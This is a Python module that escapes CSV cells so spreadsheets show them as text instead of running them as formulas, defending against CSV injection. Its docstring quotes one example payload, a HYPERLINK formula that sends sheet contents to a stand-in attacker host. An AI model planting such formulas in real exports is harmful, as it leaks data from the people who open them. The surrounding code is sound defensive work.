"""CSV cells a spreadsheet shows as text, never runs as a formula (CSV injection).

A compliance officer opens exports in a spreadsheet, which treats a cell that starts with
`=`, `+`, `-` or `@` (or with a tab or carriage return before one) as a formula: a model
owner named `=HYPERLINK("https://evil.example/?"&A1, "details")` would become a live link
that leaks the sheet. OWASP's advice ("CSV Injection") is to prefix such a cell with a
single quote, which spreadsheets read as "this is text". Numbers stay numbers: a cell that
is a plain decimal number (`-0.25`, `1e-5`) is written unchanged. A cell that already starts
with a quote is prefixed too, so `unescape_cell` can always undo the prefix exactly: every
escaped cell starts with a quote, and no cell that starts with one is left unescaped.
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r", "\n")
"""First characters that make a spreadsheet read a cell as a formula (OWASP)."""

_NUMBER = re.compile(r"^[+-]?([0-9]+(\.[0-9]*)?|\.[0-9]+)([eE][+-]?[0-9]+)?$")


def escape_cell(value: Any) -> Any:
    """The value as a CSV writer should write it: numbers as they are, formula-like or
    quote-led text with a leading single quote, other text unchanged."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith("'") or (value.startswith(FORMULA_STARTS) and not _NUMBER.match(value)):
        return "'" + value
    return value


def escape_row(values: Iterable[Any]) -> list[Any]:
    """`escape_cell` of every cell of a row (for `csv.writer.writerow`)."""
    return [escape_cell(v) for v in values]


def unescape_cell(text: str) -> str:
    """The original text of a cell `escape_cell` wrote (for programs reading it back)."""
    return text[1:] if text.startswith("'") else text
